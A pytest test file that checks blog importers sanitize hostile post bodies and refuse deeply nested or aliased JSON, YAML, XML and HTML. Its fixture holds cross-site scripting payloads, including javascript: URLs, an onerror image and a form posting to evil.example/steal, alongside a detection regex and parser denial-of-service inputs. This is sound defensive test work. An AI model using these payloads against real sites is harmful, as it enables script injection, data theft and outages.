"""Importers under hostile input (issue 10): bounded loaders, clear refusals, sanitized post bodies."""

from __future__ import annotations

import json
import logging
import re
import time

import pytest
from bs4 import BeautifulSoup
from importers import ImportFailed, import_disqus, import_html, import_staticman, import_webmention, import_wordpress

HOSTILE_BODY = """<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<p id="conversation-map" name="__pwned">Clobber.</p>
<a href="javascript:alert(1)">js</a> <a href=" JaVaScRiPt:alert(1)">js2</a>
<a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a>
<form action="https://evil.example/steal"><input name="q"><button formaction="javascript:alert(1)">go</button></form>
<svg><set attributeName="href" to="javascript:alert(1)"/>
<animate attributeName="href" values="javascript:alert(1)"/></svg>
<math href="javascript:alert(1)"><mi>x</mi></math>
<a href="https://ok.example/" target="_blank" rel="opener">opener</a>
<!-- --!><img src=x onerror="window.__pwned=1"> -->
<p>Reading slowly, as <a href="#note">noted</a>.</p><p id="note">Note.</p>
<p>Resolver 8.8.8.8 and kernel 2.6.16.21-0.25 and <a href="http://192.168.1.1/">my router</a>.</p>
<pre><code>git clone git@example.org:me/repo.git</code></pre>
<p>Control characters by reference: &#x1F; &#x0B; &#1;.</p>
"""

DANGEROUS = re.compile(r"http-equiv|<base|javascript:|vbscript:|data:text|<form|formaction|<svg|<set\b|<animate|"
                       r"<math|target=|rel=\"opener|onerror|__pwned|<input|<button|--!>", re.IGNORECASE)


@pytest.fixture
def hostile_wxr(tmp_path, fixtures):
    text = (fixtures / "wordpress" / "field-notes.xml").read_text(encoding="utf-8")
    text = text.replace("Reading slowly is a practice, not a speed.", HOSTILE_BODY, 1)
    path = tmp_path / "hostile.xml"
    path.write_text(text, encoding="utf-8")
    return path


def test_imported_post_bodies_are_sanitized(hostile_wxr, content):
    import_wordpress(hostile_wxr, content)
    written = (content / "imported" / "wordpress" / "on-slow-reading.html").read_text(encoding="utf-8")
    body = written.split("<body>", 1)[1]
    assert not DANGEROUS.search(body), DANGEROUS.search(body)
    soup = BeautifulSoup(body, "html.parser")
    assert soup.find(id="conversation-map") is None and soup.find(attrs={"name": True}) is None
    assert soup.find(id="user-content-note") is not None  # in-page links keep working
    assert soup.find("a", href="#user-content-note") is not None
    assert soup.find("a", string="opener").get("href") == "https://ok.example/"
    # The author's own post keeps what identifies nobody, and hides what might.
    assert "8.8.8.8" in body and "2.6.16.21-0.25" in body and 'href="http://192.168.1.1/"' in body
    assert "git@example.org" in body
    assert "mira@field.example" not in body and "192.0.2.44" not in body
    assert not any(ord(c) < 32 and c not in "\t\n" for c in body)
    # ... and the site builds with it: no redacted URL reaches the conversation map's urlsplit.
    from sitebuild import build_site

    output = build_site(content, content.parent / "output")
    page = (output / "posts" / "on-slow-reading" / "index.html").read_text(encoding="utf-8")
    assert 'href="http://192.168.1.1/"' in page and "[address hidden]/" not in page


def _deep_json(depth: int) -> str:
    return '{"children": ' + "[" * depth + "]" * depth + "}"


@pytest.mark.parametrize("text", ["[" * 100_000 + "]" * 100_000, _deep_json(5000)])
def test_deep_jf2_is_refused(tmp_path, content, text):
    source = tmp_path / "mentions.json"
    source.write_text(text, encoding="utf-8")
    started = time.monotonic()
    with pytest.raises(ImportFailed, match=r"mentions\.json: refused: nested .* levels deep"):
        import_webmention(source, content)
    assert time.monotonic() - started < 5
    assert not any(content.rglob("*.md"))


@pytest.mark.parametrize(("name", "text", "match"), [
    ("deep.json", "[" * 50_000 + "]" * 50_000, "nested 50,000 levels deep"),
    ("deep.yml", "a: " + "[" * 50_000 + "]" * 50_000, "nested 50,000 levels deep"),
    ("block.yml", "".join("  " * i + "k:\n" for i in range(500)), "nested more than 64 levels"),
    ("alias.yml", "a: &x [1, 2]\nb: [*x, *x, *x]\nname: Ada\nmessage: hi\n", "aliases"),
])
def test_deep_or_aliased_staticman_entries_are_refused(tmp_path, content, name, text, match):
    folder = tmp_path / "comments" / "on-slow-reading"
    folder.mkdir(parents=True)
    (folder / name).write_text(text, encoding="utf-8")
    started = time.monotonic()
    with pytest.raises(ImportFailed, match=match) as failure:
        import_staticman(tmp_path / "comments", content)
    assert name in str(failure.value)
    assert time.monotonic() - started < 10


@pytest.mark.parametrize("importer", [import_wordpress, import_disqus])
def test_unknown_xml_encoding_is_refused_with_the_file_named(tmp_path, content, importer):
    source = tmp_path / "odd.xml"
    source.write_bytes(b'<?xml version="1.0" encoding="x-klingon"?>\n<rss><channel/></rss>\n')
    with pytest.raises(ImportFailed, match=r"odd\.xml:1: refused: unknown encoding: x-klingon"):
        importer(source, content)


def test_external_dtd_is_reported(tmp_path, fixtures, content, caplog):
    text = (fixtures / "wordpress" / "field-notes.xml").read_text(encoding="utf-8")
    text = text.replace("<rss", '<!DOCTYPE rss SYSTEM "https://dtd.example/rss.dtd">\n<rss', 1)
    source = tmp_path / "dtd.xml"
    source.write_text(text, encoding="utf-8")
    with caplog.at_level(logging.WARNING):
        import_wordpress(source, content)
    assert any("dtd.xml" in r.getMessage() and "external DTD" in r.getMessage() for r in caplog.records)
    assert (content / "imported" / "wordpress" / "on-slow-reading.html").is_file()


def test_hundred_thousand_nested_divs_are_refused_quickly(tmp_path, content):
    source = tmp_path / "divs.html"
    source.write_text("<html><body>" + "<div>" * 100_000 + "x" + "</div>" * 100_000 + "</body></html>",
                      encoding="utf-8")
    started = time.monotonic()
    with pytest.raises(ImportFailed, match=r"divs\.html: refused: elements nested 100,00\d levels deep"):
        import_html(source, content)
    assert time.monotonic() - started < 10


def test_a_3000_deep_comment_thread_is_refused_quickly(tmp_path, fixtures, content):
    page = (fixtures / "html" / "core-html5.html").read_text(encoding="utf-8")
    deep = ('<li class="comment" id="comment-9{n}"><article id="div-comment-9{n}"><footer><b class="fn">P{n}</b>'
            '</footer><div class="comment-content"><p>Level {n}</p></div></article><ol class="children">')
    thread = "".join(deep.format(n=n) for n in range(3000)) + "</ol></li>" * 3000
    page = page.replace('<ol class="comment-list">', '<ol class="comment-list">' + thread, 1)
    source = tmp_path / "deep.html"
    source.write_text(page, encoding="utf-8")
    started = time.monotonic()
    with pytest.raises(ImportFailed, match=r"deep\.html: refused: elements nested"):
        import_html(source, content)
    assert time.monotonic() - started < 10


def test_jf2_with_wrong_types_names_the_file(tmp_path, content):
    source = tmp_path / "odd.json"
    source.write_text(json.dumps({"children": "not a list"}), encoding="utf-8")
    with pytest.raises(ImportFailed, match=r"odd\.json"):
        import_webmention(source, content)


def test_a_deeply_nested_reactions_file_is_a_conflict_not_a_crash(fixtures, content):
    folder = content / "replies" / "on-slow-reading"
    folder.mkdir(parents=True)
    (folder / "reactions.json").write_text("[" * 50_000 + "]" * 50_000, encoding="utf-8")
    import_wordpress(fixtures / "wordpress" / "field-notes.xml", content)
    report = import_webmention(fixtures / "webmention" / "field-notes.jf2.json", content)
    assert any(f.action == "conflict" and "nested more than" in f.note for f in report.files)


def test_import_reports_never_show_an_address(tmp_path, fixtures, content):
    import_wordpress(fixtures / "wordpress" / "field-notes.xml", content)
    root = tmp_path / "comments"
    (root / "on-slow-reading").mkdir(parents=True)
    entry = {"_id": "e1", "name": "Ada", "message": "Hi.", "date": "2020-03-06T10:00:00Z",
             "replying_to": "ada.parent@example.org"}
    (root / "on-slow-reading" / "e1.json").write_text(json.dumps(entry), encoding="utf-8")
    text = import_staticman(root, content, dry_run=True).format()
    assert "names no entry of this post" in text and "ada.parent@example.org" not in text
